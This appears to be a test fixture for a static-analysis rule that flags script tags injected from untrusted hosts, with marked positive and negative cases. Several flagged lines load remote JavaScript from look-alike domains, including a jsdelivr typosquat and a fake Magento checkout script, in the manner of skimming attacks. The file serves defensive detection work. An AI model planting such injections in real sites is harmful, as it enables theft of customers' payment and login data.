// Tests for dynamic-script-from-untrusted-host: an injected <script> (or import) pointing to an
// unknown or look-alike host.

var s1 = document.createElement('script');
// ruleid: dynamic-script-from-untrusted-host
s1.src = 'https://cdn-analytics-metrics.top/lib/jquery.min.js';
document.head.appendChild(s1);

var s2 = document.createElement('script');
// ruleid: dynamic-script-from-untrusted-host
s2.setAttribute('src', 'https://jsdellvr.com/npm/jquery@3.6.0/dist/jquery.min.js');

function inject(u) {
  var t = document.createElement('script');
  t.async = true;
  // ruleid: dynamic-script-from-untrusted-host
  t.src = u;
  document.body.appendChild(t);
}
inject('https://magento-cdn.top/static/version1/frontend/checkout.js');

var gtm = document.createElement('script');
// ok: dynamic-script-from-untrusted-host
gtm.src = 'https://www.googletagmanager.com/gtm.js?id=GTM-ABC123';

var stripe = document.createElement('script');
// ok: dynamic-script-from-untrusted-host
stripe.src = 'https://js.stripe.com/v3/';

var chunk = document.createElement('script');
// ok: dynamic-script-from-untrusted-host
chunk.src = '/static/js/checkout.chunk.' + window.__buildHash + '.js';

var lib = document.createElement('script');
// ok: dynamic-script-from-untrusted-host
lib.src = 'https://cdn.jsdelivr.net/npm/cleave.js@1.6.0/dist/cleave.min.js';
